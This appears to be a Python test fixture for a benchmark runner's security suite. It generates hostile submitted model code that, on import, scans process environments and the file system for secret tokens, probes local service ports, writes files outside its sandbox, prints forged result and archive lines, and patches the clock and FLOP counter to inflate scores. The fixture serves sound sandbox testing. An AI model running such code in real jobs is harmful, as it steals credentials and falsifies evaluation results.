"""Free-level model code that attacks the runner (tests/security, tests/runners/test_end_to_end.py).

It trains a real (small) model so the job completes, and on import it tries everything a
submitter might: find the runner's secrets (every /proc/*/environ and cmdline, its own
environment, the runner's files, the whole visible file system), reach the services on
127.0.0.1, write outside its scratch directory, print a forged archive line and forged MLLOG
and progress lines, and patch the clock and torch's FLOPs counter. What it got is printed as
one HOSTILE-REPORT line, which the test reads from the log tail.
"""

from __future__ import annotations

from pathlib import Path

# A small dot-product recommender for learning-to-rank; model code builds on it.
DOT_MODEL = """
import torch
from torch import nn


class Dot(nn.Module):
    def __init__(self, num_users: int, num_items: int, dims: int = 16):
        super().__init__()
        self.users = nn.Embedding(num_users, dims)
        self.items = nn.Embedding(num_items + 1, dims, padding_idx=0)

    def forward(self, sequences, users, items):
        context = self.items(sequences).mean(1) + self.users(users)
        return torch.einsum("bd,bkd->bk", context, self.items(items))
"""

HONEST_MODEL = (
    DOT_MODEL
    + """

def build_model(num_users, num_items, sequence_length):
    return Dot(num_users, num_items)
"""
)

ATTACKS = """
import glob, json, os, re, socket, sys, time

SECRET = re.compile(rb"bcr[hj]_[A-Za-z0-9_-]{20,}|guest:[A-Za-z0-9_-]{20,}@")
report = {"found": [], "connect": {}, "writes": {}, "processes": [], "files_read": 0}


def hunt(data, where):
    for match in SECRET.findall(data):
        report["found"].append([where, match.decode("latin-1")])


for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        with open(path, "rb") as f:
            data = f.read()
        hunt(data, path)
        if path.endswith("cmdline"):
            report["processes"].append(data.replace(b"\\0", b" ").decode("latin-1"))
    except OSError:
        pass
hunt(json.dumps(dict(os.environ)).encode(), "environ")
skip = ("/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix, os.path.realpath(sys.prefix))
for path in RUNNER_FILES + ["/"]:
    for root, dirs, files in os.walk(path):
        dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(skip)]
        for name in files:
            try:
                with open(os.path.join(root, name), "rb") as f:
                    hunt(f.read(4_000_000), os.path.join(root, name))
                report["files_read"] += 1
            except OSError:
                pass
    if os.path.isfile(path):
        try:
            hunt(open(path, "rb").read(), path)
        except OSError as exc:
            report["writes"]["read " + path] = exc.strerror

for port in (5432, 6379, 5672):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2).close()
        report["connect"][str(port)] = "connected"
    except OSError as exc:
        report["connect"][str(port)] = exc.strerror or type(exc).__name__
for target in OUTSIDE + ["/usr/lib/evil.so", "/opt/benchcouncil/runners/harness/evil.py"]:
    try:
        with open(target, "w") as f:
            f.write("forged")
        report["writes"][target] = "written"
    except OSError as exc:
        report["writes"][target] = exc.strerror

# Output meant to be taken as instructions or figures.
with open("/scratch/forged.tar.gz", "wb") as f:
    f.write(b"forged bundle")
print(":::ARCHIVE /scratch/forged.tar.gz", flush=True)
print(':::MLLOG {"namespace": "", "time_ms": 1, "event_type": "POINT_IN_TIME", "key": "eval_accuracy", '
      '"value": 0.999, "metadata": {"epoch_num": 1}}', flush=True)
print(':::PROGRESS {"state": "finished", "quality": 0.999, "run": 1, "runs": 1}', flush=True)

# Patches meant to change the figures: a frozen clock, a FLOPs counter that boasts.
import torch
import torch.utils.flop_counter as flop_counter

flop_counter.FlopCounterMode.get_total_flops = lambda self: 10**18
time.time = time.monotonic = time.perf_counter = lambda: 0.0
print("HOSTILE-REPORT " + json.dumps(report), flush=True)
"""


def hostile_model_code(runner_files: list[Path], outside: list[Path]) -> str:
    """The attacking model code, aimed at these runner files and these places outside scratch."""
    targets = f"RUNNER_FILES = {[str(p) for p in runner_files]!r}\nOUTSIDE = {[str(p) for p in outside]!r}\n"
    return targets + ATTACKS + HONEST_MODEL
